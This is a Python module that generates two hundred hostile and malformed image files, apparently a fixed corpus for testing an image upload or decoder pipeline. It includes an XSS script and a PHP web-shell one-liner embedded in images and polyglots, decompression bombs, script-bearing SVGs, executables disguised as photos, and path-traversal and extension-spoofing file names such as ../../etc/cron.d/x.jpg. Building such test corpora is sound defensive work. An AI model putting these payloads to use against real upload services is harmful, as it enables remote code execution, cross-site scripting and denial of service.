"""Two hundred broken and hostile pictures, made of good ones, the same every time."""

import struct
import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO
from random import Random

from PIL import Image

FORMATS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "AVIF": "avif", "GIF": "gif"}
COUNT = 200
PAYLOAD = b"<script>alert(document.domain)</script><?php system($_GET['c']); ?>"


@cache
def pictures() -> list[tuple[str, str, bytes]]:
    """(what is wrong, file name, content), two hundred of them."""
    dice = Random("hostile")
    made = [*bombs(), *polyglots(), *names(), *mazes()]
    makers = [flipped, cut, doubled, renamed, lying]
    while len(made) < COUNT:
        format = dice.choice(list(FORMATS))
        what, name, content = dice.choice(makers)(format, good(format, dice.random() < 0.3), dice)
        made.append((f"{format}: {what} {len(made)}", name, content))
    return made


@cache
def good(format: str, is_moving: bool = False) -> bytes:
    image = Image.radial_gradient("L").resize((320, 200)).convert("RGB")
    more = {}
    if is_moving and format != "JPEG":
        more = {"save_all": True, "append_images": [image.rotate(90 * n) for n in range(3)], "duration": 50}
    if format == "JPEG":
        exif = Image.Exif()
        exif[0x0112], exif[0x010E] = 6, PAYLOAD.decode()
        more = {"exif": exif, "progressive": True}
    buffer = BytesIO()
    image.save(buffer, format, **more)
    return buffer.getvalue()


def flipped(format: str, content: bytes, dice: Random) -> tuple[str, str, bytes]:
    count, within = dice.choice([(1, 40), (8, 40), (3, len(content)), (60, len(content)), (600, len(content))])
    broken = bytearray(content)
    for _flip in range(count):
        broken[dice.randrange(min(within, len(broken)))] ^= 1 << dice.randrange(8)
    return f"{count} bits flipped", f"flipped.{FORMATS[format]}", bytes(broken)


def cut(format: str, content: bytes, dice: Random) -> tuple[str, str, bytes]:
    length = dice.choice([0, 1, 4, 12, 30, dice.randrange(len(content)), len(content) - dice.randrange(1, 30)])
    return f"cut to {length} bytes", f"cut.{FORMATS[format]}", content[:length]


def doubled(format: str, content: bytes, dice: Random) -> tuple[str, str, bytes]:
    begin = dice.randrange(len(content))
    end = begin + dice.randrange(1, 400)
    return "a part doubled", f"doubled.{FORMATS[format]}", content[:end] + content[begin:end] * 3 + content[end:]


def renamed(format: str, content: bytes, dice: Random) -> tuple[str, str, bytes]:
    name = dice.choice(["x.php", "x.html", "x.svg", "x.jpg.exe", "x.jpg;.php", ".htaccess", "x.pdf", "x.JPG ", "x"])
    return f"called {name}", name, content + PAYLOAD


def lying(format: str, content: bytes, dice: Random) -> tuple[str, str, bytes]:
    at = dice.randrange(4, min(80, len(content) - 4))
    lie = dice.choice([b"\xff\xff\xff\xff", b"\x00\x00\x00\x00", b"\x7f\xff\xff\xff", b"\x00\x00\xff\xff"])
    return "a length that lies", f"lying.{FORMATS[format]}", content[:at] + lie + content[at + 4 :]


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *extra: bytes, pixels: bytes = b"", depth: int = 1, colour: int = 0) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@cache
def zeros() -> bytes:
    return zlib.compress(bytes(150_000_000), 9)


def bombs() -> Iterator[tuple[str, str, bytes]]:
    """Small files that want much memory."""
    for side in (5_000, 6_324, 20_000, 65_535, 2**31 - 1):
        yield f"PNG of {side} pixels a side", "bomb.png", png(side, side, pixels=zeros())
        yield (
            f"PNG of {side} pixels a side, 64 bits each",
            "deep.png",
            png(side, side, pixels=zeros(), depth=16, colour=6),
        )
    for name in (b"zTXt", b"iCCP", b"iTXt"):
        text = b"x\0\0" + zeros() if name != b"iTXt" else b"x\0\1\0\0\0" + zeros()
        yield f"150 MB in {name.decode()}", "text.png", png(10, 10, chunk(name, text), pixels=zlib.compress(bytes(20)))
    canvas = struct.pack("<HH", 65_535, 65_535)
    gif = good("GIF")
    yield "GIF of 65,535 pixels a side", "canvas.gif", gif[:6] + canvas + gif[10:]
    frame = gif.index(b"\x2c\0\0\0\0") + 5
    yield "GIF with such a frame", "frame.gif", gif[:frame] + canvas + gif[frame + 4 :]
    jpeg = good("JPEG")
    start = jpeg.index(b"\xff\xc2") + 5
    yield "JPEG of 65,535 pixels a side", "sof.jpg", jpeg[:start] + b"\xff\xff\xff\xff" + jpeg[start + 4 :]
    avif = good("AVIF")
    ispe = avif.index(b"ispe") + 8
    yield "AVIF of 2³¹ pixels a side", "ispe.avif", avif[:ispe] + b"\x7f\xff\xff\xff" * 2 + avif[ispe + 8 :]
    vp8x = b"VP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff\x3f\x00" * 2
    webp = vp8x + good("WEBP")[12:]
    yield "WebP of 16,384 pixels a side", "canvas.webp", b"RIFF" + struct.pack("<I", len(webp) + 4) + b"WEBP" + webp


def polyglots() -> Iterator[tuple[str, str, bytes]]:
    """Pictures that are something else as well, and other things that say they are pictures."""
    for format, extension in FORMATS.items():
        yield f"{format} and a page", f"page.{extension}.html", good(format) + PAYLOAD
        yield f"{format} and an archive", f"archive.{extension}", good(format) + b"PK\x03\x04" + PAYLOAD
        yield f"a page before {format}", f"before.{extension}", PAYLOAD + good(format)
    gif = good("GIF")
    yield "GIF and a script", "script.gif", gif[:6] + b"/*" + gif[8:] + b"*/=1;alert(1)//"
    yield (
        "PNG with a page in it",
        "text.png",
        png(8, 8, chunk(b"tEXt", b"Comment\0" + PAYLOAD), pixels=zlib.compress(bytes(16))),
    )
    for format in ("BMP", "TIFF", "ICO", "PPM", "TGA", "EPS", "JPEG2000"):
        buffer = BytesIO()
        Image.new("RGB", (64, 64), "red").save(buffer, format)
        yield f"{format} called PNG", f"{format.lower()}.png", buffer.getvalue()
    yield "SVG", "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "SVG called PNG", "drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "PostScript called JPEG", "print.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n"
    yield "PDF called JPEG", "paper.jpg", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + good("JPEG")
    yield "a program", "photo.jpg", b"\x7fELF" + bytes(200)


def names() -> Iterator[tuple[str, str, bytes]]:
    """Good pictures whose names are not."""
    for name in ("../../etc/cron.d/x.jpg", "..\\..\\x.jpg", "x\0.jpg", "\u202egpj.exe", "x" * 400 + ".jpg", "<b>.jpg"):
        yield f"called {name[:30]!r}", name, good("JPEG")


def mazes() -> Iterator[tuple[str, str, bytes]]:
    """Files of so many parts that a decoder would take long to go through them."""
    jpeg = good("JPEG")
    scan = jpeg.index(b"\xff\xda")
    end = jpeg.index(b"\xff\xc4", scan) if b"\xff\xc4" in jpeg[scan:] else len(jpeg) - 2
    yield "JPEG of 5,000 scans", "scans.jpg", jpeg[:scan] + jpeg[scan:end] * 5_000 + b"\xff\xd9"
    yield "JPEG of 100,000 comments", "comments.jpg", jpeg[:2] + b"\xff\xfe\x00\x03x" * 100_000 + jpeg[2:]
    buffer = BytesIO()
    Image.new("L", (9, 9)).save(buffer, "GIF")
    gif = buffer.getvalue()
    body = gif[gif.index(b"\x2c\0\0\0\0") : -1]
    yield "GIF of 30,000 frames", "frames.gif", gif[:-1] + body * 30_000 + b";"
    yield (
        "PNG of 200,000 chunks",
        "chunks.png",
        png(8, 8, chunk(b"tEXt", b"a\0b") * 200_000, pixels=zlib.compress(bytes(16))),
    )
